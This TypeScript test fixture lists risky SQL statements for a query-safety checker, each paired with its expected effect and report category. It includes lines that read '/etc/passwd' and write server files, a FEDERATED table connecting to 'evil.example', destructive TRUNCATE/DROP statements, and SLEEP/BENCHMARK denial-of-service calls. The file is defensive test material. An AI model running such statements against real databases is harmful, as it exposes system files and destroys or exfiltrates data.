import type { Tricks } from '../trick.ts'
import { outside, tooMuch } from '../trick.ts'

// What is done to whole tables and databases, and what reaches files, locks and other servers.
export const whole: Tricks = {
  'TRUNCATE without a word': { sql: 'TRUNCATE x;', happens: 'x: a,b empty', reports: 'truncate' },
  'an ALTER that empties': {
    given: 'ALTER TABLE x PARTITION BY RANGE (a) (PARTITION p VALUES LESS THAN MAXVALUE)',
    sql: 'ALTER TABLE x TRUNCATE PARTITION ALL;',
    happens: 'x: a,b empty',
    reports: 'truncate',
  },
  'an ALTER that drops a part': {
    given:
      'ALTER TABLE x PARTITION BY RANGE (a) (PARTITION p VALUES LESS THAN (2), PARTITION r VALUES LESS THAN MAXVALUE)',
    sql: 'ALTER TABLE x DROP PARTITION p;',
    happens: 'x: a,b (2,2)',
    reports: 'truncate',
  },
  'a part that is exchanged': {
    given:
      'ALTER TABLE x PARTITION BY RANGE (a) (PARTITION p VALUES LESS THAN MAXVALUE); CREATE TABLE z (a int, b int)',
    sql: 'ALTER TABLE x EXCHANGE PARTITION p WITH TABLE z;',
    happens: 'x: a,b empty, z: a,b (1,1) (2,2)',
    reports: 'alter-copies-table',
  },
  'a part that is converted': {
    given:
      'ALTER TABLE x PARTITION BY RANGE (a) (PARTITION p VALUES LESS THAN (2), PARTITION r VALUES LESS THAN MAXVALUE)',
    sql: 'ALTER TABLE x CONVERT PARTITION p TO TABLE z;',
    happens: 'x: a,b (2,2), z is new: a,b (1,1)',
    reports: 'alter-copies-table',
  },
  'tables that change places': {
    sql: 'CREATE TABLE z (a int, b int); RENAME TABLE x TO old, z TO x;',
    happens: 'old is new: a,b (1,1) (2,2), x: a,b empty',
    reports: 'rename',
  },
  'a table that moves to another database': {
    sql: 'RENAME TABLE x TO elsewhere.z;',
    happens: 'elsewhere.z is new: a,b (1,1) (2,2), x is gone',
    reports: 'rename',
  },
  'another database': {
    sql: 'DROP TABLE elsewhere.x;',
    happens: 'elsewhere.x is gone',
    reports: 'drop-table',
  },
  'another database, which is used': {
    sql: 'USE elsewhere; DROP TABLE x;',
    happens: 'elsewhere.x is gone',
    reports: 'drop-table transaction-control',
  },
  'another database as a whole': {
    sql: 'DROP SCHEMA elsewhere;',
    happens: 'database elsewhere is gone, elsewhere.x is gone',
    reports: 'drop-table',
  },
  'the database itself': {
    sql: 'CREATE OR REPLACE DATABASE elsewhere;',
    happens: 'elsewhere.x is gone',
    reports: 'drop-table',
  },
  'a table in the place of another': {
    sql: 'CREATE OR REPLACE TABLE x SELECT 1 AS c;',
    happens: 'x: c (1)',
    reports: 'drop-table',
  },
  'a view in the place of another': {
    given: 'CREATE VIEW v AS SELECT a FROM x',
    sql: 'ALTER VIEW v AS SELECT 1 AS a;',
    happens: 'nothing',
    reports: '',
  },
  'an engine that keeps nothing': {
    sql: 'ALTER TABLE x ENGINE = BLACKHOLE;',
    happens: 'nothing',
    reports: 'engine-change unparsed',
  },
  'an engine that forgets': {
    sql: 'ALTER TABLE x ENGINE = MEMORY;',
    happens: 'x: a,b MEMORY (1,1) (2,2)',
    reports: 'engine-change',
  },
  'a table over others': {
    sql: 'CREATE TABLE z (a int, b int) ENGINE = MERGE UNION = (x) INSERT_METHOD = LAST;',
    happens: 'z is new: a,b MRG_MyISAM (not readable)',
    reports: 'unparsed',
  },
  'a table elsewhere': {
    sql: "CREATE TABLE z (a int) ENGINE = FEDERATED CONNECTION = 'mysql://u@evil.example/d/t';",
    happens: 'nothing',
    reports: 'unparsed',
  },
  'another character set': {
    sql: 'ALTER TABLE x CONVERT TO CHARACTER SET latin1;',
    happens: 'x: a,b (1,1) (2,2)',
    reports: 'charset-conversion',
  },
  'a low door': {
    sql: 'HANDLER x OPEN; HANDLER x READ FIRST; HANDLER x CLOSE;',
    happens: 'nothing',
    reports: 'transaction-control',
  },
  'a lock on all tables': {
    sql: 'FLUSH TABLES WITH READ LOCK;',
    happens: 'nothing',
    reports: 'transaction-control',
  },
  'a lock on a table': { sql: 'LOCK TABLES x WRITE;', happens: 'nothing', reports: 'transaction-control' },
  'a commit that nobody wrote': {
    sql: 'START TRANSACTION; UPDATE x SET b = 9 WHERE a = 1; ALTER TABLE x ADD c int; ROLLBACK;',
    happens: 'x: a,b,c (1,9,) (2,2,)',
    reports: 'mixed-ddl-dml transaction-control',
  },
  'a commit by a temporary table': {
    sql: 'UPDATE x SET b = 9 WHERE a = 1; CREATE TABLE z (a int); UPDATE x SET b = 8 WHERE nothing = 1;',
    happens: 'x: a,b (1,9) (2,2), z is new: a empty',
    reports: 'mixed-ddl-dml',
  },
  'transactions of its own': {
    sql: 'SET autocommit = 0; DELETE FROM x WHERE a = 1; COMMIT;',
    happens: 'x: a,b (2,2)',
    reports: 'transaction-control',
  },
  'a hint that sets': {
    sql: 'SELECT /*+ SET_VAR(foreign_key_checks=OFF) */ 1;',
    happens: 'nothing',
    reports: 'unparsed',
  },
  'a file of the server': { sql: "SELECT LOAD_FILE('/etc/passwd');", read: outside, reports: 'server-files' },
  'a file of the server into a table': {
    sql: "LOAD DATA INFILE '/etc/passwd' INTO TABLE x;",
    read: outside,
    reports: 'server-files',
  },
  'a file of the client into a table': {
    sql: "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE x;",
    read: outside,
    reports: 'unparsed',
  },
  'a file of the server in XML': {
    sql: "LOAD XML INFILE '/etc/x.xml' INTO TABLE x;",
    read: outside,
    reports: 'server-files',
  },
  'rows into a file of the server': {
    sql: "SELECT * FROM x INTO OUTFILE '/var/spool/x';",
    read: outside,
    reports: 'transaction-control',
  },
  'bytes into a file of the server': {
    sql: "SELECT 'a' INTO DUMPFILE '/var/spool/x';",
    read: outside,
    reports: 'transaction-control',
  },
  'rows into a file, in the middle': {
    sql: "SELECT * INTO OUTFILE '/var/spool/x' FROM x;",
    read: outside,
    reports: 'transaction-control',
  },
  sleep: { sql: 'SELECT SLEEP(100000);', read: tooMuch, reports: 'server-settings' },
  'work for nothing': {
    sql: "SELECT BENCHMARK(1000000000, MD5('a'));",
    read: tooMuch,
    reports: 'server-settings',
  },
  'a lock by a name': {
    sql: "SELECT GET_LOCK('dbward', 0);",
    shows: "IS_FREE_LOCK('dbward')",
    happens: 'shows 0',
    reports: 'transaction-control',
  },
  'the locks of the agent': {
    sql: 'DO RELEASE_ALL_LOCKS();',
    happens: 'nothing',
    reports: 'transaction-control',
  },
  'an EXPLAIN that runs': {
    sql: 'ANALYZE FORMAT=JSON DELETE FROM x;',
    happens: 'x: a,b empty',
    reports: 'no-where-delete',
  },
  'a compound without a name': {
    sql: 'BEGIN NOT ATOMIC DELETE FROM x; END;',
    happens: 'x: a,b empty',
    reports: 'no-where-delete unparsed',
  },
  'a query with a change of settings': {
    sql: 'SET STATEMENT foreign_key_checks = 0 FOR DELETE FROM parent WHERE id = 1;',
    happens: 'parent: id (2)',
    reports: 'unparsed',
  },
}
